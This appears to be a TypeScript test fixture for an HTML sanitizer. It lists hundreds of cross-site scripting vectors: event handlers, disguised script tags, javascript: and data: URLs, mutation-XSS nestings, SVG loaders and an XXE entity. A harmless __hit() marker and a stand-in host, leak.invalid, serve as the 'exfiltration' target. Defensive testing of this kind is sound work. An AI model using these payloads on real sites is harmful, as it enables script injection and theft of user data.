/** The server to which attack vectors send stolen data. The server must never receive a request. */
export const LEAK = 'https://leak.invalid/';

/** The code that a successful attack runs, which counts the attack in the page. */
const HIT = '__hit()';

/** `__hit()` as character references and as escapes, which simple filters do not detect. */
const CODES = Array.from(HIT, (sign) => sign.charCodeAt(0));
const DECIMAL = CODES.map((code) => `&#${String(code)};`).join('');
const HEX = CODES.map((code) => `&#x${code.toString(16)}`).join(';');
const ESCAPED = CODES.map((code) => `\\u${code.toString(16).padStart(4, '0')}`).join('');
const ENCODED = encodeURIComponent(`<script>${HIT}</script>`);
const BASE64 = btoa(`<script>${HIT}</script>`);
const SVG_BASE64 = btoa(
  `<svg xmlns="http://www.w3.org/2000/svg" onload="${HIT}"><script>${HIT}</script></svg>`,
);

/** Handlers for many kinds of events on many kinds of elements. */
const HANDLERS = [
  `<img src=x onerror=${HIT}>`,
  `<img src=x onerror="${HIT}//`,
  `<img/src="x"/onerror=${HIT}>`,
  `<img src=x:x OnErRoR=${HIT}>`,
  `<img\nsrc=x\nonerror\n=\n${HIT}>`,
  `<img src=x onerror=${DECIMAL}>`,
  `<img src=x onerror=${HEX}>`,
  `<img src="x\` \`onerror=${HIT}">`,
  `<img """><script>${HIT}</script>">`,
  `<<img src=x onerror=${HIT}//<`,
  `<body onload=${HIT}><p>x</p>`,
  `<div onpointerover="${HIT}" onclick="${HIT}">over</div>`,
  `<div tabindex=1 autofocus onfocus=${HIT}>focus</div>`,
  `<input autofocus onfocus=${HIT}>`,
  `<select autofocus onfocus=${HIT}><option>1</select>`,
  `<textarea autofocus onfocus=${HIT}></textarea>`,
  `<details open ontoggle=${HIT}><summary>x</summary></details>`,
  `<video src=x onerror=${HIT}></video>`,
  `<video><source onerror=${HIT}></video>`,
  `<audio src=x onerror=${HIT}>`,
  `<marquee onstart=${HIT}>x</marquee>`,
  `<p style="animation-name:popup-appear" onanimationstart=${HIT}>x</p>`,
  `<p onbeforematch=${HIT} hidden=until-found>x</p>`,
  `<p popover id=x onbeforetoggle=${HIT}>y</p><button popovertarget=x>z</button>`,
  `<b onauxclick=${HIT} oncontextmenu=${HIT} ondragstart=${HIT}>x</b>`,
  `<table background="javascript:${HIT}"><td onclick=${HIT}>x</table>`,
  `<x-y onclick=${HIT} contenteditable onblur=${HIT} autofocus>x</x-y>`,
] as const;

/** Scripts in various disguises. */
const SCRIPTS = [
  `<script>${HIT}</script>`,
  `<ScRiPt >${HIT}</sCrIpT>`,
  `<script src="${LEAK}a.js"></script>`,
  `<script type=module>import '${LEAK}b.js'</script>`,
  `<scr<script>ipt>${HIT}</scr</script>ipt>`,
  `<script>/*</script><script>*/${HIT}</script>`,
  `"><script>${HIT}</script>`,
  `'"--></style></script></title><script>${HIT}</script>`,
  `</textarea><script>${HIT}</script>`,
  `\u0000<scr\u0000ipt>${HIT}</scr\u0000ipt>`,
  `<script\u000b>${HIT}</script>`,
  `<template><script>${HIT}</script><img src=x onerror=${HIT}></template>`,
  `<div><template shadowrootmode=open><img src=x onerror=${HIT}></template></div>`,
  `<noscript><p title="</noscript><img src=x onerror=${HIT}>"></noscript>`,
  `<xmp><p title="</xmp><img src=x onerror=${HIT}>"></xmp>`,
  `<noembed><img title="</noembed><img src=x onerror=${HIT}>"></noembed>`,
  `<plaintext><img src=x onerror=${HIT}>`,
  `<!--<img src="--><img src=x onerror=${HIT}>//">`,
  `<!-->--><img src=x onerror=${HIT}>-->`,
  `<![CDATA[<img src=x onerror=${HIT}>]]>`,
  `<?xml version="1.0"?><?x <img src=x onerror=${HIT}> ?>`,
  `<p is="x-p" onclick="${ESCAPED}">x</p>`,
] as const;

/** URLs that run code, in many spellings. */
export const ADDRESSES = [
  `javascript:${HIT}`,
  `JaVaScRiPt:${HIT}`,
  `java\tscript:${HIT}`,
  `java\nscript:${HIT}`,
  ` \u0001javascript:${HIT}`,
  `javascript\u0000:${HIT}`,
  `javascript://leak.invalid/%0a${HIT}`,
  `jav&#x09;ascript:${HIT}`,
  `&#106;avascript:${HIT}`,
  `javascript&colon;${HIT}`,
  `\u00a0javascript:${HIT}`,
  `vbscript:${HIT}`,
  `livescript:${HIT}`,
  `data:text/html,${ENCODED}`,
  `data:text/html;base64,${BASE64}`,
  `data:image/svg+xml;base64,${SVG_BASE64}`,
  `data:application/xhtml+xml,${ENCODED}`,
  `data:image/png,text/html;base64,${BASE64}`,
  `blob:https://leak.invalid/1`,
  `filesystem:https://leak.invalid/1`,
  `view-source:https://leak.invalid/`,
  `file:///etc/passwd`,
  `http://leak.invalid/`,
  `http:\\\\leak.invalid/`,
  `ftp://leak.invalid/`,
  `about:blank#${HIT}`,
] as const;

/** Elements that load, submit, redirect or cover content without a script. */
const LOADS = [
  `<style>@import url("${LEAK}c.css");*{background:url("${LEAK}d.png")}</style>`,
  `<p style="background:url('${LEAK}e.png')">x</p>`,
  `<p style="position:fixed;inset:0;z-index:9;behavior:url(${LEAK}f.htc)">x</p>`,
  `<link rel=stylesheet href="${LEAK}g.css">`,
  `<link rel=preload as=image href="${LEAK}h.png"><link rel=dns-prefetch href="${LEAK}">`,
  `<base href="${LEAK}"><a href="i.html">x</a>`,
  `<meta http-equiv=refresh content="0;url=${LEAK}j">`,
  `<meta http-equiv="Content-Security-Policy" content="default-src 'none'">`,
  `<iframe src="${LEAK}k"></iframe>`,
  `<iframe srcdoc="<script>parent.${HIT}</script>"></iframe>`,
  `<frameset><frame src="javascript:parent.${HIT}"></frameset>`,
  `<object data="${LEAK}l"></object><embed src="${LEAK}m">`,
  `<object data="data:text/html,${ENCODED}"></object>`,
  `<applet code="${LEAK}n"></applet><portal src="${LEAK}"></portal>`,
  `<form action="javascript:${HIT}"><button>x</button><input type=submit></form>`,
  `<button formaction="javascript:${HIT}">x</button><input type=image src="${LEAK}o.png" formaction="javascript:${HIT}">`,
  `<isindex type=image src="${LEAK}p.png" action=javascript:${HIT}>`,
  `<img srcset="${LEAK}q.png 1x" alt=x>`,
  `<picture><source srcset="${LEAK}r.png"><img alt=x></picture>`,
  `<video poster="${LEAK}s.png" src="${LEAK}t.mp4" autoplay></video><audio src="${LEAK}u.mp3" autoplay></audio>`,
  `<track src="${LEAK}v.vtt"><bgsound src="${LEAK}w.mid">`,
  `<body background="${LEAK}x.png"><table background="${LEAK}y.png"><td>z</table>`,
  `<a href="https://ok.invalid/" ping="${LEAK}z">x</a>`,
  `<img src="http://leak.invalid/a.png"><img src="//user:pass@">`,
] as const;

/** Nested elements that are parsed differently the second time (mutation XSS). */
const MUTATIONS = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${HIT}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${HIT}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${HIT}>">`,
  `<svg><style><img src="</style><img src=x onerror=${HIT}//">`,
  `<svg><desc><table><svg><style><!--</style><a title="--><img src=x onerror=${HIT}>">`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${HIT}></style></annotation-xml></math>`,
  `<math><mi xlink:href="data:x,<script>${HIT}</script>" href="javascript:${HIT}">x</mi></math>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${HIT}</script>"></foreignObject></svg>`,
  `<table><svg><title><style><td><img src=x onerror=${HIT}></style></title></svg></table>`,
  `<p><svg><p><style><g title="</style><img src=x onerror=${HIT}>">`,
  `<select><iframe><select><img src=x onerror=${HIT}></select>`,
  `<a href="x" title="\`<img src=x onerror=${HIT}>\`">x</a><b title="--><img src=x onerror=${HIT}>">x</b>`,
  `${'<div>'.repeat(600)}<svg><style><img src=x onerror=${HIT}></style>`,
  `<div id="popup-title"><form id=x name=attributes><input name=attributes><input name=parentNode></form></div>`,
  `<a id=hosts><a id=hosts name=popups href="cid:x"></a><img name=body><img name=getElementById>`,
  `<div class="close fly away" part="popup-close" slot="map" role="dialog" aria-hidden="true" data-x="1">x</div>`,
  `<slot name=map></slot><sphere-viewer src="${LEAK}s.json"></sphere-viewer>`,
] as const;

/** SVG drawings that run code, load resources or contain links. */
export const DRAWINGS = [
  `<svg onload=${HIT}><path d="M0 0h9"/></svg>`,
  `<svg><script>${HIT}</script><path d="M0 0h9"/></svg>`,
  `<svg><script href="${LEAK}1.js"/><path d="M0 0h9"/></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg"><script xlink:href="data:,${HIT}"/><rect width="4" height="4"/></svg>`,
  `<svg><a href="javascript:${HIT}"><rect width="99" height="99"/></a></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${HIT}"/><text y=9>x</text></a></svg>`,
  `<svg><animate onbegin=${HIT} attributeName=x dur=1s /><rect/></svg>`,
  `<svg><set attributeName=onmouseover to="${HIT}"/><rect/></svg>`,
  `<svg><use href="${LEAK}2.svg#x"/><use href="data:image/svg+xml;base64,${SVG_BASE64}#x"/><rect/></svg>`,
  `<svg><image href="${LEAK}3.png" onerror=${HIT} /><image xlink:href="${LEAK}4.png"/><rect/></svg>`,
  `<svg><filter id=f><feImage href="${LEAK}5.png"/></filter><rect filter="url(#f)"/></svg>`,
  `<svg><rect fill="url(${LEAK}6.svg#g)" filter="url('${LEAK}7.svg#f')" mask="url( &quot;${LEAK}8.svg#m&quot; )"/></svg>`,
  `<svg><rect style="fill:u\\72l(${LEAK}9.svg#g);background:image-set('${LEAK}10.png' 1x)"/></svg>`,
  `<svg><rect style="cursor:url(#a),url(${LEAK}11.cur),auto"/></svg>`,
  `<svg><style>@import "${LEAK}12.css";rect{fill:url(${LEAK}13.svg#x)}</style><rect/></svg>`,
  `<svg><foreignObject><body onload=${HIT}><img src=x onerror=${HIT}></body></foreignObject><rect/></svg>`,
  `<svg><title><img src=x onerror=${HIT}></title><desc><script>${HIT}</script></desc><rect/></svg>`,
  `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "${LEAK}14">]><svg><text>&x;</text></svg>`,
  `<?xml-stylesheet href="${LEAK}15.css"?><svg><rect/></svg>`,
  `<svg xml:base="${LEAK}"><linearGradient href="#a" id=b /><rect fill="url(#b)"/></svg>`,
  `<svg><handler type="application/ecmascript">${HIT}</handler><rect onclick=${HIT} /></svg>`,
  `<svg><textPath href="${LEAK}16.svg#p">x</textPath><rect/></svg>`,
  `<svg><iframe src="${LEAK}17"></iframe><video src="${LEAK}18"/><rect/></svg>`,
  `<svg><switch><rect/></switch><view id=v /><metadata><script>${HIT}</script></metadata><g/></svg>`,
] as const;

/** Every attack vector as HTML. URLs are included as links and as images. */
export const VECTORS: readonly string[] = [
  ...HANDLERS,
  ...SCRIPTS,
  ...LOADS,
  ...MUTATIONS,
  ...DRAWINGS,
  ...ADDRESSES.flatMap((address) => [`<a href="${address}">x</a>`, `<img src="${address}" alt="x">`]),
];
